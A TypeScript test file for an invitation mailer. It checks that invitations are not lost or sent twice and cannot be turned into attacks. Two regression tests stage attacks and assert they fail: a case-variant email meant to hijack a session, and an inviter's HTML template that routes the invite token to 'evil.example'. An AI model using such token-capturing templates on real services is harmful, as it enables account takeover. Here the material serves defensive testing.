/** No invitation is lost, mailed twice or sent to somebody else, or gives its sender foreign access. */
import { afterAll, beforeAll, expect, test } from "vitest";
import type { ProjectionGroup } from "../../../src/projections/engine/group.ts";
import { invitationMailing } from "../../../src/commands/members/invitation-mailer.ts";
import { patience } from "../../support/eventually.ts";
import { startTestService, type TestService } from "../../support/http.ts";
import { keepMails } from "../../support/mailing.ts";

let service: TestService;
let group: ProjectionGroup;
let members: string;
const { mails, mailing } = keepMails();
beforeAll(async () => {
  service = await startTestService();
  group = service.invitationGroup;
  group.start();
  members = `/v1/organizations/${service.organizationId}/members`;
});

afterAll(() => service.stop());

const caughtUp = async () => group.waitFor(await service.services.store.lastPosition(), patience);
const invite = (email: string) =>
  service.call("POST", members, {
    token: service.owner,
    body: { email, firstName: "A", lastName: "B" },
  });

const as = (token: string, method: string, path: string, body?: unknown) =>
  service.call(method, path, { token, body });

test("an invitation cannot go to another spelling of a known person's address, because its link opens their session", async () => {
  const { userId } = await service.addMember("ADMIN", { email: "bob@example.com" });
  const session = await service.signIn(userId);
  // The attacker, who wants Bob's session, owns another organization.
  const evil = await service.addMember("OWNER");
  const made = await service.call("POST", "/v1/organizations", {
    token: evil.session,
    body: { name: "Evil" },
  });
  await service.call("POST", `/v1/organizations/${made.body.organizationId}/members`, {
    token: evil.session,
    body: { email: "BOB@example.com", firstName: "B", lastName: "B" },
  });
  expect(session).toMatch(/^mst_ses_/);
  await caughtUp();
  await invitationMailing.run({ ...service.services, ...mailing });
  expect(mails.filter(({ userId: whose }) => whose === userId).map(({ to }) => to)).toEqual([
    "bob@example.com",
  ]);
});

test("a mail is not lost when the read models lag behind", async () => {
  const { body } = await invite("lagging@example.com");
  await caughtUp();
  // The directory is behind: the invitation is due, but the member is not visible yet.
  const { pool } = service.services;
  const { rows } = await pool.query("delete from members where user_id = $1 returning *", [
    body.userId,
  ]);
  const lagging = {
    ...service.services,
    directory: { ...service.services.directory, waitFor: async () => false },
  };
  await invitationMailing.run({ ...lagging, ...mailing }).catch(() => undefined);
  await pool.query("insert into members select * from json_populate_recordset(null::members, $1)", [
    JSON.stringify(rows),
  ]);
  service.clock.add(20 * 60_000);
  await invitationMailing.run({ ...service.services, ...mailing });
  expect(mails.filter(({ to }) => to === "lagging@example.com")).toHaveLength(1);
});

test("a mail is neither lost nor recorded as failed while its organization is set aside", async () => {
  const { body } = await invite("aside@example.com");
  await caughtUp();
  const { pool } = service.services;
  await pool.query(
    `insert into projection_set_aside
     values ($1, 'directory', 1, gen_random_uuid(), 'X', 'x', null, now())`,
    [`organization-${service.organizationId}`],
  );
  // What the directory does not show must not count as deleted.
  await invitationMailing.run({ ...service.services, ...mailing });
  await pool.query("delete from projection_set_aside");
  const shown = await as(service.owner, "GET", `${members}/${body.userId}`);
  expect(shown.body.invite).toMatchObject({ status: "PENDING" });
  await invitationMailing.run({ ...service.services, ...mailing });
  expect(mails.filter(({ to }) => to === "aside@example.com")).toHaveLength(1);
});

test("an inviter's template cannot open the invited person's other organizations", async () => {
  // The victim owns the first organization. The attacker has signed up, as any stranger can.
  const attacker = await service.addMember("CREATOR");
  const made = await as(attacker.session, "POST", "/v1/organizations", { name: "Evil" });
  const evil = `/v1/organizations/${made.body.organizationId}`;
  const saved = await as(attacker.session, "PUT", `${evil}/invite-templates/en`, {
    subject: "You are invited",
    html: '<a href="https://evil.example/catch?{inviteLink}">Join</a>',
  });
  await as(attacker.session, "POST", `${evil}/members`, {
    email: "owner@example.com",
    firstName: "O",
    lastName: "W",
  });
  await group.waitFor(await service.services.store.lastPosition(), patience);
  await invitationMailing.run({ ...service.services, ...mailing });
  // The victim follows the only link of the page, where the attacker's script reads location.hash.
  const href = /href="([^"]*)"/.exec(
    mails.find(({ to }) => to === "owner@example.com")?.html ?? "",
  );
  const link = new URL(href?.[1] ?? "http://none.example");
  const token = link.hostname === "evil.example" ? link.hash.replace("#token=", "") : "none";
  const taken = await service.call("POST", "/v1/invites/accept", { body: { token } });
  const loot =
    taken.status === 200
      ? await as(
          taken.body.sessionToken,
          "GET",
          `/v1/organizations/${service.organizationId}/settings`,
        )
      : undefined;
  expect({ saved: saved.status, taken: taken.status, loot: loot?.status }).not.toEqual({
    saved: 200,
    taken: 200,
    loot: 200,
  });
});

test("several instances do not mail an invitation twice", async () => {
  const path = `/v1/organizations/${service.organizationId}/members/batch`;
  const people = Array.from({ length: 60 }, (_, index) => ({
    email: `many-${index}@example.com`,
    firstName: "M",
    lastName: `${index}`,
  }));
  const done = await as(service.owner, "POST", path, { members: people });
  expect(done.status).toBe(207);
  await group.waitFor(await service.services.store.lastPosition(), patience);
  await Promise.all(
    [1, 2, 3, 4].map(() => invitationMailing.run({ ...service.services, ...mailing })),
  );
  const sent = mails.filter(({ to }) => to.startsWith("many-")).map(({ to }) => to);
  expect(sent.length).toBe(60);
  expect(new Set(sent).size).toBe(60);
});
